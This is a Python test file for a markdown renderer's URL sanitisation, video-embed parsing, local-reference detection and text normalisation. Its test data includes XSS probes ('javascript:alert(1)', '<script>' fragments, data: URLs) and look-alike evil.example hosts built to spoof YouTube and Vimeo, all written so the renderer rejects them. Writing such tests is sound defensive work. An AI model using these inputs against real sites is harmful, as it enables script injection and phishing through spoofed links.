    def resolve(url: str, is_media: bool) -> str:
        calls.append((url, is_media))
        return "/courses/demo/files/images/d.svg"

    html = render_markdown("![d](images/d.svg)", resolve)
    assert_inert(html)
    assert calls == [("images/d.svg", True)]
    assert tags_named(html, "img") == [{"alt": "d", "src": "/courses/demo/files/images/d.svg"}]


def test_rejected_references_lose_href_and_src():
    html = render_markdown("[gone](missing.md) ![gone](missing.png)", lambda url, m: None)
    assert_inert(html)
    assert tags_named(html, "a") == [{}]
    assert tags_named(html, "img") == [{"alt": "gone"}]
    assert "gone" in html


def test_without_resolver_relative_references_lose_href_and_src():
    html = render_markdown("[next](02-next.md) ![d](images/d.svg)")
    assert_inert(html)
    assert tags_named(html, "a") == [{}]
    assert tags_named(html, "img") == [{"alt": "d"}]


def test_resolver_not_called_for_absolute_anchor_or_scheme_urls():
    calls: list[str] = []

    def resolve(url: str, is_media: bool) -> str:
        calls.append(url)
        return "/resolved"

    render_markdown(
        "[a](https://example.com/) [b](#h-x) [c](mailto:a@example.com) [d](/abs/path) "
        "[e](javascript:alert(1)) [f](//evil.example/x) ![g](https://example.com/g.png)",
        resolve,
    )
    assert calls == []


def test_resolver_result_that_is_unsafe_is_dropped():
    html = render_markdown("[x](a.md) ![y](b.png)", _hostile_resolver)
    assert_inert(html)
    assert tags_named(html, "a") == [{}]
    assert tags_named(html, "img") == [{"alt": "y"}]


def test_empty_and_none_text():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""  # type: ignore[arg-type]


# --------------------------------------------------------------------------------------------
# video_embed_url and is_local_reference
# --------------------------------------------------------------------------------------------

NOCOOKIE = f"https://www.youtube-nocookie.com/embed/{YT_ID}"
VIMEO_PLAYER = f"https://player.vimeo.com/video/{VIMEO_ID}"


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        (f"https://www.youtube.com/watch?v={YT_ID}", NOCOOKIE),
        (f"https://youtube.com/watch?v={YT_ID}", NOCOOKIE),
        (f"https://m.youtube.com/watch?v={YT_ID}", NOCOOKIE),
        (f"https://www.youtube.com/watch?feature=share&v={YT_ID}&t=10", NOCOOKIE),
        (f"https://youtu.be/{YT_ID}", NOCOOKIE),
        (f"  https://youtu.be/{YT_ID}  ", NOCOOKIE),
        (f"https://www.youtube.com/embed/{YT_ID}", NOCOOKIE),
        (f"https://www.youtube-nocookie.com/embed/{YT_ID}", NOCOOKIE),
        (f"https://vimeo.com/{VIMEO_ID}", VIMEO_PLAYER),
        (f"https://www.vimeo.com/{VIMEO_ID}/", VIMEO_PLAYER),
        (f"https://player.vimeo.com/video/{VIMEO_ID}", VIMEO_PLAYER),
    ],
)
def test_video_embed_url_maps_to_player(url, expected):
    assert video_embed_url(url) == expected


@pytest.mark.parametrize(
    "url",
    [
        f"http://www.youtube.com/watch?v={YT_ID}",
        f"http://youtu.be/{YT_ID}",
        f"http://vimeo.com/{VIMEO_ID}",
        f"//www.youtube.com/watch?v={YT_ID}",
        f"www.youtube.com/watch?v={YT_ID}",
        f"javascript:alert(1)//https://youtu.be/{YT_ID}",
        "https://evil.example/watch?v=aqz-KE-bpKQ",
        f"https://youtube.com.evil.example/watch?v={YT_ID}",
        f"https://www.youtube.com.evil.example/embed/{YT_ID}",
        f"https://www.youtube.com@evil.example/watch?v={YT_ID}",
        f"https://evil.example@www.youtube.com/watch?v={YT_ID}",
        f"https://www.youtube.com:8443/watch?v={YT_ID}",
        f"https://youtu.be.evil.example/{YT_ID}",
        f"https://evilyoutu.be/{YT_ID}",
        f"https://vimeo.com.evil.example/{VIMEO_ID}",
        f"https://player.vimeo.com.evil.example/video/{VIMEO_ID}",
        f"https://evil.example/?u=https://youtu.be/{YT_ID}",
        "https://www.youtube.com/watch",
        "https://www.youtube.com/watch?v=",
        "https://www.youtube.com/watch?v=abc",
        "https://www.youtube.com/watch?v=aqz-KE-bpKQ\"><script>",
        "https://www.youtube.com/watch?v=../../evil",
        "https://www.youtube.com/watch?v=aqz%2FKE-bpKQ",
        "https://www.youtube.com/watch?v=" + "a" * 40,
        "https://youtu.be/",
        "https://youtu.be/aqz-KE-bpKQ/extra",
        "https://youtu.be/<script>",
        "https://www.youtube.com/embed/",
        "https://www.youtube.com/embed/aqz-KE-bpKQ/../../x",
        "https://www.youtube.com/embed/javascript:alert(1)",
        "https://www.youtube.com/channel/UC123456",
        "https://vimeo.com/",
        "https://vimeo.com/abc",
        "https://vimeo.com/76979871/extra",
        "https://player.vimeo.com/video/abc",
        "https://player.vimeo.com/video/",
        "https://player.vimeo.com/embed/76979871",
        "",
        "not a url",
    ],
)
def test_video_embed_url_rejects(url):
    assert video_embed_url(url) is None


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("02-next.md", True),
        ("images/d.svg", True),
        ("../other-course/01-intro.md", True),
        ("02-next.md#h-section", True),
        ("https://example.com/", False),
        ("mailto:a@example.com", False),
        ("javascript:alert(1)", False),
        ("JavaScript:alert(1)", False),
        ("java\tscript:alert(1)", False),
        ("data:text/html,x", False),
        ("//evil.example/x", False),
        ("/abs/path", False),
        ("#h-anchor", False),
        ("\\\\evil.example\\x", False),
        ("\\evil.example", False),
    ],
)
def test_is_local_reference(url, expected):
    assert is_local_reference(url) is expected


# --------------------------------------------------------------------------------------------
# plain_text and normalize_for_search
# --------------------------------------------------------------------------------------------


def test_plain_text_strips_tags_and_markdown():
    text = plain_text("# Title\n\nSome **bold** and <b>raw</b> text with `code`.\n")
    assert text == "title some bold and raw text with code."
    assert "<" not in text


def test_plain_text_drops_script_tags():
    text = plain_text("<script>alert(1)</script>Hello")
    assert "<script" not in text
    assert "hello" in text


def test_plain_text_folds_case_and_full_width():
    assert plain_text("ＡＢＣ") == "abc"
    assert plain_text("Ｐａｒｔｎｅｒ ＴＩＥＲ") == "partner tier"


def test_plain_text_collapses_whitespace_and_tables():
    text = plain_text("| A | B |\n|---|---|\n| x\u3000y | z |\n")
    assert text == "a b x y z"


def test_plain_text_of_empty():
    assert plain_text("") == ""
    assert plain_text(None) == ""  # type: ignore[arg-type]


def test_plain_text_decodes_entities():
    assert plain_text("Tom & Jerry, a < b") == "tom & jerry, a < b"


def test_normalize_for_search():
    assert normalize_for_search("  Ｎｉｍｂｕｓ\u3000CRM ") == "nimbus crm"
    assert normalize_for_search("STRASSE Straße") == "strasse strasse"
    assert normalize_for_search("ｶﾀｶﾅ") == "カタカナ"
    assert normalize_for_search("\t a \n\n b ") == "a b"
    assert normalize_for_search("") == ""


@pytest.mark.parametrize("source", ["[x](http://[/)", "![x](https://[x)",
                                    '<a href="http://[">x</a>',
                                    f'<iframe src="https://[www.youtube.com/embed/{YT_ID}">'
                                    "</iframe>"])
def test_a_url_that_cannot_be_parsed_is_dropped_not_a_crash(source):
    # urlsplit raises ValueError on an unclosed IPv6 host ("http://[").
    html = render_markdown(source)

    assert "[" not in html and "http" not in html


def test_unparseable_urls_are_neither_videos_nor_local_files():
    assert video_embed_url("https://[") is None
    assert is_local_reference("http://[x") is False
